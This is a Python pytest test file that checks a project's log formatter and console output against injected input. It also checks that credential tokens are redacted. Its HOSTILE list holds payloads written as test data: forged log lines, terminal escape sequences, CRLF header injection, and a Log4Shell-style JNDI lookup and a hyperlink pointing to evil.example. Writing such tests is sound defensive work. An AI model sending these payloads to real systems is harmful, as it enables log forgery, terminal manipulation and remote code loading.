"""What files, people and models wrote neither steers a terminal nor forges a line of the log."""

from __future__ import annotations

import io
import json
import logging

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.text import Text

from answerable.adapters.log_lines import LogLines
from answerable.cli import console
from answerable.guards.secrets import without_secrets
from answerable.text.printable import one_line, printable

HOSTILE = (
    "a\nINFO fake line", "a\r\nERROR admin login ok", "a\x1b[2J\x1b[31mred", "a\x00b", "a\u2028b", "a\b\b\bb",
    "%0d%0aSet-Cookie: x", '{"level":"fatal"}', "${jndi:ldap://evil.example/a}", "a" * 100_000,
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "a\x85b", "a\x9b31mb", "a\u202eb", "a\u2066b", "\x0b\x0c\x1c",
    "a\ud800b", "\x1b]0;title\x07", "\x1bP$q\x1b\\",
)  # fmt: skip
BENIGN = ("plain", "日本語", "مرحبا بالعالم", "שלום", "👩‍👩‍👧", "a\tb", "café — “so”", "line\nline", "नमस्ते")
BREAKS = set("\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029")


def logged(form: str, text: str, *, error: bool = False) -> str:
    """As a server would write it: through a logger, its handler and its stream."""
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.setFormatter(LogLines(form=form, bare=without_secrets))
    logger = logging.Logger("answerable.test")
    logger.addHandler(handler)
    try:
        raise RuntimeError(text)
    except RuntimeError:
        logger.warning("said %s", text, exc_info=error)
    return out.getvalue()


@pytest.mark.parametrize("error", [False, True])
@pytest.mark.parametrize("form", ["text", "json"])
@pytest.mark.parametrize("text", HOSTILE)
def test_a_record_is_one_line_whatever_it_tells(text: str, form: str, error: bool) -> None:
    line = logged(form, text, error=error)
    assert line.endswith("\n")
    assert BREAKS.isdisjoint(line[:-1])
    assert printable(line) == line
    assert len(line) < 50_000
    if form == "json":
        assert json.loads(line)["level"] == "WARNING"
    else:
        assert line.split()[1] == "WARNING"


def test_a_credential_is_not_logged_even_where_the_line_is_cut() -> None:
    key = "ghp_" + "Ab1x" * 9
    for form in ("text", "json"):
        assert key not in logged(form, f"the provider said: {key}", error=True)
        assert key[:20] not in logged(form, "x" * 5_330 + key + "x" * 9_000)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_is_shown_steers_a_terminal(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    out = io.StringIO()
    monkeypatch.setattr(console.out, "_file", out)  # `file` would not be put back
    console.say(text)
    console.table(["a"], [[text]])
    console.out.print(Text(text, style="bold"))
    console.emit_json({"text": text})
    assert printable(out.getvalue()) == out.getvalue()
    assert out.getvalue()


def test_json_says_the_same_with_its_escapes(monkeypatch: pytest.MonkeyPatch) -> None:
    out = io.StringIO()
    monkeypatch.setattr(console.out, "_file", out)  # `file` would not be put back
    console.emit_json({"text": "a\x85\u202e\x7fé日"})
    assert json.loads(out.getvalue()) == {"text": "a\x85\u202e\x7fé日"}
    assert "é日" in out.getvalue()


@pytest.mark.parametrize("text", BENIGN)
def test_letters_of_every_script_stay(text: str) -> None:
    assert printable(text) == text


@given(st.text(st.characters(exclude_categories=())))
def test_what_was_made_printable_once_is_so_for_good(text: str) -> None:
    assert printable(printable(text)) == printable(text)
    assert BREAKS.isdisjoint(one_line(text))
